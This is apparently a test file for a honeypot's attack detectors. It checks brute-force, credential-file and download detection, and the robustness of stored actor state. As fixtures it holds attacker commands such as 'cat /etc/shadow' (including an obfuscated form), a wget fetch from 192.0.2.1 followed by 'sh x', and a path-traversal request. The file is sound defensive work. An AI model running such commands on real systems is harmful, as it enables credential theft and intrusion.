import { Detection } from '@netsentinel/contracts/detection';
import { encodeEvent } from '@netsentinel/kernel/event-record';
import { pack } from '@netsentinel/kernel/pack';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  isRepeat,
  MAX_STATE_BYTES,
  newActorState,
  packActorState,
  rememberBefore,
  unpackActorState,
} from './actor-state.ts';
import { createDetectors, mayConcern } from './detectors.ts';
import { moveEvent, movesOf, STORY_START, type Move, type MoveSketch } from './test-moves.ts';

const detectors = createDetectors();
const failure = (password: string, more: Partial<MoveSketch> = {}): MoveSketch => ({
  login: 'root',
  password,
  ...more,
});

function rulesOf(moves: readonly Move[]): string[] {
  const state = newActorState();
  return movesOf(moves).flatMap((event) => detectors.process(event, state).map((one) => one.rule.id));
}

describe('detectors', () => {
  it('do not concern themselves with background', () => {
    const event = moveEvent({ connect: true, decoy: false }, STORY_START, 1);
    expect(detectors.concerns(event)).toBe(false);
    const state = newActorState();
    expect(detectors.process(event, state)).toEqual([]);
    expect(state.memories).toEqual(new Map());
    // Rules may have found something in it: it must not count twice.
    expect(isRepeat(state, event)).toBe(true);
    expect(detectors.concerns(moveEvent({ connect: true }, STORY_START, 1))).toBe(true);
    expect(detectors.concerns(moveEvent({ connect: true }, STORY_START, 1, '-'))).toBe(false);
    expect(detectors.concerns(moveEvent({ login: 'x', decoy: false }, STORY_START, 1))).toBe(true);
    expect(detectors.concerns(moveEvent({ request: 'GET /a?b=1' }, STORY_START, 1))).toBe(false);
    expect(detectors.concerns(moveEvent({ request: 'GET /a?b=1', status: 404 }, STORY_START, 1))).toBe(true);
    expect(detectors.concerns(moveEvent({ request: 'GET /?b=../../etc/passwd' }, STORY_START, 1))).toBe(true);
  });

  it('are not kept from any event by a look at its bytes', () => {
    const sketch = fc.oneof(
      fc.record({ connect: fc.constant(true), decoy: fc.boolean() }),
      fc.record({ login: fc.string(), ok: fc.boolean(), decoy: fc.boolean() }),
      fc.record({ command: fc.string(), decoy: fc.boolean() }),
      fc.record({ request: fc.string(), status: fc.constantFrom(200, 404) }),
    );
    fc.assert(
      fc.property(sketch, (move) => {
        const event = moveEvent(move, STORY_START, 1);
        expect(mayConcern(encodeEvent(event)) || !detectors.concerns(event)).toBe(true);
      }),
    );
    expect(mayConcern(encodeEvent(moveEvent({ connect: true, decoy: false }, STORY_START, 1)))).toBe(false);
  });

  it('give a detection an id that finding it again after a crash gives too', () => {
    const events = movesOf(['1', '2', '3', '4', '5'].map((one) => failure(one)));
    const run = (): Detection[] => {
      const state = newActorState();
      return events.flatMap((event) => detectors.process(event, state));
    };
    const found = run();
    expect(run()).toEqual(found);
    expect(new Set(found.map((one) => one.id)).size).toBe(found.length);
    const brute = found.find((one) => one.rule.id === 'login-brute-force');
    expect(brute?.evidence).toHaveLength(5);
    expect(brute?.evidence[0]).toBe(events[4]?.event.id);
  });

  it('call a source verified only where all evidence is', () => {
    const state = newActorState();
    const moves = [1, 2, 3, 4, 5].map((n) => failure(String(n), { verified: n !== 2 }));
    const found = movesOf(moves).flatMap((event) => detectors.process(event, state));
    expect(found.find((one) => one.rule.id === 'login-brute-force')?.sourceVerified).toBe(false);
    expect(found.filter((one) => one.rule.id === 'decoy-login-attempt').map((one) => one.sourceVerified)).toEqual([
      true,
      false,
      true,
      true,
      true,
    ]);
  });

  it('report brute force again only when it has doubled', () => {
    expect(
      rulesOf(Array.from({ length: 45 }, (_, n) => failure(String(n)))).filter((one) => one === 'login-brute-force'),
    ).toHaveLength(4);
  });

  it('take the same event once', () => {
    const state = newActorState();
    const events = movesOf(['uname -a', 'id', 'cat /etc/shadow']);
    const once = events.flatMap((event) => detectors.process(event, state));
    const after = structuredClone(state);
    for (const event of events) {
      expect(isRepeat(state, event)).toBe(true);
      expect(detectors.process(event, state)).toEqual([]);
    }
    expect(state).toEqual(after);
    expect(once.map((one) => one.rule.id).sort()).toEqual(['shadow-access', 'system-discovery', 'user-discovery']);
  });

  it('report a line once, though its programs show the same again, and what only they show', () => {
    expect(
      rulesOf([
        'a=sha; cat /etc/${a}dow; uname -a',
        { program: ['cat', '/etc/shadow'] },
        { program: ['uname', '-a'] },
        { program: ['cat', '/etc/shadow'] },
        { program: ['uname', '-a'], session: 'other' },
      ]),
    ).toEqual(['system-discovery', 'shadow-access', 'system-discovery']);
  });

  it('quote the attacker with control characters visible', () => {
    const [found] = movesOf(['wget http://192.0.2.1/\u001b[2J\u202e']).flatMap((event) =>
      detectors.process(event, newActorState()),
    );
    expect(found?.summary).toBe('Download: "wget http://192.0.2.1/\\u{1b}[2J\\u{202e}"');
  });
});

describe('the state of an actor', () => {
  const anyMove = fc.oneof(
    fc.record({
      login: fc.constantFrom('root', 'admin', 'a'.repeat(900)),
      password: fc.string({ maxLength: 900 }),
      ok: fc.boolean(),
    }),
    fc.record({
      command: fc.constantFrom('wget http://192.0.2.1/x', 'sh x', 'uname', 'x'.repeat(9000), ';'.repeat(300)),
    }),
    fc.record({ upload: fc.string(), session: fc.string({ maxLength: 1000 }) }),
    fc.record({ handshake: fc.string({ maxLength: 900 }) }),
    fc.record({ forward: fc.constant('192.0.2.1:25'), decoy: fc.boolean() }),
  );
  const history = fc.array(fc.tuple(anyMove, fc.integer({ min: -4000, max: 4000 })), { maxLength: 60 });

  it('stays small, and goes through the store unchanged, whatever happens in whatever order', () => {
    fc.assert(
      fc.property(history, (moves) => {
        const state = newActorState();
        moves.forEach(([move, seconds], index) => {
          const event = moveEvent(move, STORY_START + seconds * 1000, index + 1);
          for (const detection of detectors.process(event, state))
            expect(Detection.safeParse(detection).error).toBeUndefined();
          rememberBefore(state, event);
        });
        const bytes = packActorState(state);
        expect(bytes.length).toBeLessThanOrEqual(MAX_STATE_BYTES);
        const back = unpackActorState(bytes);
        expect(back.memories).toEqual(state.memories);
        expect(unpackActorState(packActorState(back))).toEqual(back);
      }),
      { numRuns: 150 },
    );
  });

  it('remembers all that somebody did before, but of logins that were let in the latest few', () => {
    const state = newActorState();
    const sketches: MoveSketch[] = [
      { connect: true },
      failure('a'),
      ...Array.from({ length: 10 }, (_, n): MoveSketch => ({ login: `user${n}`, ok: true, decoy: false })),
      failure('b'),
    ];
    for (const [n, sketch] of sketches.entries()) rememberBefore(state, moveEvent(sketch, STORY_START, n + 1));
    const names = state.before.map(({ user, event }) => `${user?.name ?? '-'} ${event.outcome ?? ''}`.trim());
    expect(names).toEqual([
      '-',
      'root failure',
      ...['user6', 'user7', 'user8', 'user9'].map((name) => `${name} success`),
      'root failure',
    ]);
  });

  it('drops pre-history first where it grew too large', () => {
    const state = newActorState();
    for (let n = 1; n < 40; n++) {
      const event = moveEvent(
        { login: 'u'.repeat(1024), password: '\u4e16'.repeat(1024), session: 's'.repeat(1000) },
        STORY_START,
        n,
      );
      detectors.process(event, state);
      rememberBefore(state, event);
    }
    const bytes = packActorState(state);
    expect(bytes.length).toBeLessThanOrEqual(MAX_STATE_BYTES);
    const back = unpackActorState(bytes);
    expect(back.before.length).toBeLessThan(state.before.length);
    expect(back.memories).toEqual(state.memories);
    expect(back.seen).toEqual(state.seen);
  });

  it('starts afresh from what is damaged or forged', () => {
    const state = newActorState();
    for (const event of movesOf([failure('1'), failure('2')])) detectors.process(event, state);
    const good = packActorState(state);
    for (let length = 0; length < good.length; length++)
      expect(() => unpackActorState(good.subarray(0, length))).not.toThrow();
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        expect(unpackActorState(bytes)).toEqual(newActorState());
      }),
    );
    fc.assert(
      fc.property(fc.nat(good.length - 1), fc.nat(255), (at, byte) => {
        const damaged = Uint8Array.from(good);
        damaged[at] = byte;
        const back = unpackActorState(damaged);
        for (const event of movesOf([failure('3'), 'uname'], 100)) detectors.process(event, back);
      }),
    );
    expect(unpackActorState(new Uint8Array(MAX_STATE_BYTES + 1))).toEqual(newActorState());
    const forged = pack([1, 5, {}, { 'login-brute-force': { recent: 'x' }, __proto__: 1, nobody: 2 }, [], ['', []]]);
    expect(unpackActorState(forged).memories.size).toBe(0);
    expect(unpackActorState(pack([2, 5, {}, {}, [], ['', []]]))).toEqual(newActorState());
  });

  it('remembers a bounded number of sensors', () => {
    const state = newActorState();
    for (let n = 0; n < 40; n++) {
      const event = moveEvent({ command: 'uname' }, STORY_START, 1);
      event.event.id = `ssh-${n}~m1abcdef~1`;
      detectors.process(event, state);
    }
    expect(state.seen.size).toBe(16);
    expect(state.seen.has('ssh-39~m1abcdef')).toBe(true);
  });
});
